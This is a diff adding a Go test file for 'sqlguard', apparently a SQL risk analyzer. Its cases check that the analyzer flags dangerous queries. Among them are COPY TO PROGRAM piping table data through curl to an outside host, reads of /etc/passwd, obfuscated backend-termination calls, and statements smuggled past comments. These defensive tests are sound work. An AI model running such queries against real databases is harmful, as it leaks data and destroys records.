@@ -0,0 +1,133 @@
+package sqlguard
+
+import (
+	"slices"
+	"testing"
+
+	"github.com/mololab/alodb/internal/domain/database"
+)
+
+func TestAnalyzeRisk(t *testing.T) {
+	tests := []struct {
+		name     string
+		sql      string
+		kind     database.QueryKind
+		readOnly bool
+		level    database.RiskLevel
+		flags    []string
+	}{
+		{"select", "SELECT id, name FROM users WHERE id = 1", database.QueryKindReadOnly, true, database.RiskNone, nil},
+		{"parenthesized select", "(SELECT 1) UNION (SELECT 2)", database.QueryKindReadOnly, true, database.RiskNone, nil},
+		{"values", "VALUES (1), (2)", database.QueryKindReadOnly, true, database.RiskNone, nil},
+		{"with select", "WITH recent AS (SELECT * FROM orders) SELECT count(*) FROM recent", database.QueryKindReadOnly, true, database.RiskNone, nil},
+		{"with delete select", "WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone", database.QueryKindDML, false, database.RiskMedium, nil},
+		{"with delete without where", "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone", database.QueryKindDML, false, database.RiskHigh, []string{"delete_without_where"}},
+		{"with insert", "WITH moved AS (INSERT INTO archive SELECT * FROM orders RETURNING id) SELECT count(*) FROM moved", database.QueryKindDML, false, database.RiskMedium, nil},
+		{"select for update", "SELECT * FROM accounts WHERE id = 1 FOR UPDATE", database.QueryKindDML, false, database.RiskLow, []string{"row_locks"}},
+		{"select for no key update", "SELECT * FROM accounts FOR NO KEY UPDATE SKIP LOCKED", database.QueryKindDML, false, database.RiskLow, []string{"row_locks"}},
+		{"select into", "SELECT * INTO backup FROM users", database.QueryKindDDL, false, database.RiskMedium, nil},
+		{"select nextval", "SELECT nextval('users_id_seq')", database.QueryKindDML, false, database.RiskMedium, []string{"side_effects"}},
+		{"select set_config", "SELECT set_config('statement_timeout', '0', true)", database.QueryKindDML, false, database.RiskMedium, []string{"side_effects"}},
+		{"select quoted function", `SELECT "pg_terminate_backend"(123)`, database.QueryKindDML, false, database.RiskMedium, []string{"side_effects"}},
+		{"select qualified quoted function", `SELECT pg_catalog."pg_cancel_backend" (123)`, database.QueryKindDML, false, database.RiskMedium, []string{"side_effects"}},
+		{"select unicode function", `SELECT U&"\0070g_terminate_backend"(123)`, database.QueryKindDML, false, database.RiskMedium, []string{"side_effects"}},
+		{"select unicode function with uescape", `SELECT u&"!0070g_cancel_backend" UESCAPE '!'(123)`, database.QueryKindDML, false, database.RiskMedium, []string{"side_effects"}},
+		{"select unicode sleep", `SELECT U&"\+000070g_sleep"(1)`, database.QueryKindOther, false, database.RiskMedium, []string{"sleep"}},
+		{"select quoted upper-case name", `SELECT "PG_TERMINATE_BACKEND"(123)`, database.QueryKindReadOnly, true, database.RiskNone, nil},
+		{"select quoted column", `SELECT "pg_terminate_backend" FROM t`, database.QueryKindReadOnly, true, database.RiskNone, nil},
+		{"select pg_sleep", "SELECT pg_sleep(600)", database.QueryKindOther, false, database.RiskMedium, []string{"sleep"}},
+		{"invalid unicode escape", `SELECT U&"\00zz"(1)`, database.QueryKindUnknown, false, database.RiskMedium, []string{"unparsable"}},
+		{"select pg_read_file", "SELECT pg_read_file('/etc/passwd')", database.QueryKindReadOnly, true, database.RiskHigh, []string{"server_file_access"}},
+		{"update with where", "UPDATE users SET name = 'x' WHERE id = 1", database.QueryKindDML, false, database.RiskMedium, nil},
+		{"update without where", "UPDATE users SET active = false", database.QueryKindDML, false, database.RiskHigh, []string{"update_without_where"}},
+		{"update where true", "UPDATE users SET active = false WHERE true", database.QueryKindDML, false, database.RiskHigh, []string{"update_without_where"}},
+		{"delete with where", "DELETE FROM users WHERE id = 1", database.QueryKindDML, false, database.RiskMedium, nil},
+		{"delete without where", "DELETE FROM ONLY public.users", database.QueryKindDML, false, database.RiskHigh, []string{"delete_without_where"}},
+		{"delete where 1 = 1", "DELETE FROM users WHERE 1 = 1", database.QueryKindDML, false, database.RiskHigh, []string{"delete_without_where"}},
+		{"delete with where in subquery only", "DELETE FROM users USING (SELECT id FROM bans WHERE active) b", database.QueryKindDML, false, database.RiskHigh, []string{"delete_without_where"}},
+		{"insert", "INSERT INTO users (name) VALUES ('x')", database.QueryKindDML, false, database.RiskMedium, nil},
+		{"truncate", "TRUNCATE TABLE users", database.QueryKindDDL, false, database.RiskHigh, []string{"truncate"}},
+		{"drop", "DROP TABLE users CASCADE", database.QueryKindDDL, false, database.RiskHigh, []string{"drop"}},
+		{"alter drop column", "ALTER TABLE users DROP COLUMN email", database.QueryKindDDL, false, database.RiskHigh, []string{"drop"}},
+		{"alter drop not null", "ALTER TABLE users ALTER COLUMN email DROP NOT NULL", database.QueryKindDDL, false, database.RiskMedium, nil},
+		{"create index", "CREATE INDEX ON users (email)", database.QueryKindDDL, false, database.RiskMedium, nil},
+		{"explain", "EXPLAIN DELETE FROM users", database.QueryKindReadOnly, true, database.RiskNone, nil},
+		{"explain analyze select", "EXPLAIN ANALYZE SELECT * FROM users", database.QueryKindReadOnly, true, database.RiskNone, nil},
+		{"explain analyze delete", "EXPLAIN ANALYZE DELETE FROM users", database.QueryKindDML, false, database.RiskHigh, []string{"delete_without_where"}},
+		{"explain options analyze delete", "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users WHERE id = 1", database.QueryKindDML, false, database.RiskMedium, nil},
+		{"explain options analyze off", "EXPLAIN (ANALYZE false) DELETE FROM users", database.QueryKindReadOnly, true, database.RiskNone, nil},
+		{"copy to stdout", "COPY users TO STDOUT", database.QueryKindReadOnly, true, database.RiskNone, nil},
+		{"copy to program", "COPY users TO PROGRAM 'curl -d @- https://example.com'", database.QueryKindOther, false, database.RiskHigh, []string{"copy_program"}},
+		{"copy from program", "COPY users FROM PROGRAM 'cat /etc/passwd'", database.QueryKindDML, false, database.RiskHigh, []string{"copy_program"}},
+		{"copy to file", "COPY (SELECT * FROM users) TO '/tmp/users.csv'", database.QueryKindOther, false, database.RiskHigh, []string{"server_file_access"}},
+		{"do block", "DO $$ BEGIN DELETE FROM users; END $$", database.QueryKindOther, false, database.RiskMedium, []string{"procedural_code"}},
+		{"set", "SET search_path TO public", database.QueryKindOther, false, database.RiskLow, nil},
+		{"vacuum", "VACUUM FULL users", database.QueryKindOther, false, database.RiskMedium, nil},
+		{"multiple statements", "SELECT 1; DROP TABLE users", database.QueryKindMultiStatement, false, database.RiskHigh, []string{"drop", "multiple_statements"}},
+		{"statement behind a line comment", "SELECT 1 -- harmless\n; DELETE FROM users", database.QueryKindMultiStatement, false, database.RiskHigh, []string{"delete_without_where", "multiple_statements"}},
+		{"statement behind a block comment", "SELECT 1 /* ; */; /* DROP? */ TRUNCATE users", database.QueryKindMultiStatement, false, database.RiskHigh, []string{"truncate", "multiple_statements"}},
+		{"unterminated string", "SELECT 'oops", database.QueryKindUnknown, false, database.RiskMedium, []string{"unparsable"}},
+		{"unknown command", "FROBNICATE users", database.QueryKindUnknown, false, database.RiskMedium, nil},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			analysis := Analyze(tt.sql)
+			risk := analysis.Risk()
+
+			if risk.Kind != tt.kind {
+				t.Errorf("kind = %s, want %s", risk.Kind, tt.kind)
+			}
+			if analysis.ReadOnly() != tt.readOnly {
+				t.Errorf("read-only = %v, want %v", analysis.ReadOnly(), tt.readOnly)
+			}
+			if risk.Level != tt.level {
+				t.Errorf("level = %s, want %s", risk.Level, tt.level)
+			}
+			var codes []string
+			for _, f := range risk.Flags {
+				codes = append(codes, f.Code)
+			}
+			if !slices.Equal(codes, tt.flags) {
+				t.Errorf("flags = %v, want %v", codes, tt.flags)
+			}
+		})
+	}
+}
+
+func TestAnalyzeStatements(t *testing.T) {
+	tests := []struct {
+		name     string
+		sql      string
+		commands []string
+	}{
+		{"empty", "  -- nothing\n/* here */ ;;", nil},
+		{"trailing semicolon", "SELECT 1;", []string{"SELECT"}},
+		{"semicolon in string", "SELECT 'a;b'; SELECT 2", []string{"SELECT", "SELECT"}},
+		{"semicolon in doubled quote", "SELECT 'it''s; fine'", []string{"SELECT"}},
+		{"semicolon in escape string", `SELECT E'\'; DROP TABLE users; --'`, []string{"SELECT"}},
+		{"semicolon in dollar quote", "SELECT $$; DROP TABLE users;$$", []string{"SELECT"}},
+		{"semicolon in tagged dollar quote", "SELECT $fn$ $$; $fn$; DELETE FROM users", []string{"SELECT", "DELETE"}},
+		{"semicolon in quoted identifier", `SELECT "a;b" FROM "x"";y"`, []string{"SELECT"}},
+		{"semicolon in nested comment", "SELECT 1 /* outer /* inner; */ still; */", []string{"SELECT"}},
+		{"positional parameter", "SELECT $1; SELECT 2", []string{"SELECT", "SELECT"}},
+		{"explain", "EXPLAIN ANALYZE DELETE FROM users", []string{"EXPLAIN"}},
+		{"with", "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", []string{"SELECT"}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			analysis := Analyze(tt.sql)
+			if analysis.Err != nil {
+				t.Fatalf("Analyze: %v", analysis.Err)
+			}
+			var commands []string
+			for _, stmt := range analysis.Statements {
+				commands = append(commands, stmt.Command)
+			}
+			if !slices.Equal(commands, tt.commands) {
+				t.Errorf("commands = %v, want %v", commands, tt.commands)
+			}
+		})
+	}
+}